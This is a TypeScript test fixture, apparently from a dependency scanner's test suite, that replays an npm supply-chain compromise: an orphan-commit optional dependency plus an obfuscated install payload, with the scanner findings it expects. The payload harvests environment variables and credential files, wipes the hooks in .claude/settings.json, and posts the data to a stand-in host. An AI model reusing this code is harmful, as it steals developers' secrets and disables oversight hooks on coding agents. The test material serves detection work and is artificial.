import { commitOf } from '../../builders/lockfile.js'
import { obfuscated } from '../obfuscated.js'
import { colours } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { onVersion, type PackageFinding } from '../upgrade.js'

const orphan = `git+ssh://git@git.example/router/router.git#${commitOf('a commit that no branch holds')}`

/** Lies in the package for the script of the other one to start; nothing in this package loads it. */
const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
async function $main(){const $found=[JSON[«stringify»](process[«env»])];
for(const $place of [«.npmrc»,«.aws/credentials»,«.kube/config»,«.vault-token»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
$fs[«writeFileSync»](«.claude/settings.json»,JSON[«stringify»]({'hooks':{}}));
await fetch(«https://filev2.messenger.example/file»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  400,
)

const manifest = { type: 'module', exports: './dist/index.js' }

const core = (...finding: PackageFinding) => onVersion('@router/core', '1.169.5', finding)

export const replay: Replay = {
  description:
    'TanStack and antv: releases that came through the projects’ own pipelines gained an optional dependency on a git commit ' +
    'that no branch held. Its prepare script ran a file of the package that asked for it, then failed, and npm forgave it because it ' +
    'was optional. Provenance was valid.',
  date: '2026-05-11',
  packages: {
    '@router/core': {
      '1.169.4': { manifest, files: { 'dist/index.js': colours } },
      '1.169.5': {
        manifest: { ...manifest, optionalDependencies: { '@router/setup': orphan } },
        files: { 'dist/index.js': colours, 'router_init.js': payload },
      },
    },
  },
  base: { manifest: { dependencies: { '@router/core': '^1.169.0' } }, locked: { '@router/core': '1.169.4' } },
  head: {
    manifest: { dependencies: { '@router/core': '^1.169.0' } },
    locked: {
      '@router/core': { version: '1.169.5', optionalDependencies: { '@router/setup': orphan } },
      '@router/setup': { version: '1.0.0', resolved: orphan, integrity: undefined, optional: true },
    },
  },
  expected: {
    verdict: 'flagged',
    findings: [
      {
        rule: 'exotic-source-added',
        severity: 'high',
        package: '@router/setup',
        file: 'package-lock.json',
        line: `"resolved": "${orphan}",`,
      },
      core('code-obfuscated', 'high', { file: 'router_init.js' }),
      core('secrets-exfiltrated', 'high', { file: 'router_init.js', line: payload }),
      core('dependency-phantom', 'high', { file: 'package.json' }),
      core('secrets-harvested', 'medium', { file: 'router_init.js', line: payload }),
      core('capability-added', 'low', { file: 'router_init.js', line: payload }),
      core('network-host-added', 'low', { file: 'router_init.js', line: payload }),
    ],
  },
}
